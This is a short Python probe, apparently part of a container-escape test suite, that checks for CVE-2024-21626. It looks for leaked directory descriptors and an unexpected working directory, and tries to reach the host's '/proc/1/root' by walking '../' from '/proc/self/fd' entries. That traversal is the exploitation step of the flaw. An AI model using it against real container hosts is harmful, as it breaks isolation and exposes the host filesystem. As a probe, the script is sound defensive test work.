"""A descriptor or a working folder of the machine's that came along (CVE-2024-21626)."""

import contextlib
import os

from attack import tell

leaked = [] if os.getcwd() == "/work" else [os.getcwd()]
for fd in os.listdir("/proc/self/fd"):
    path = f"/proc/self/fd/{fd}"
    with contextlib.suppress(OSError):
        target = os.readlink(path)
        if os.path.isdir(path) and not target.startswith("/proc/"):
            leaked.append(target)
    with contextlib.suppress(OSError):
        leaked += [path] * bool(os.listdir(f"{path}/../../../../../../proc/1/root"))
tell(leaked, f"leaked {leaked}")
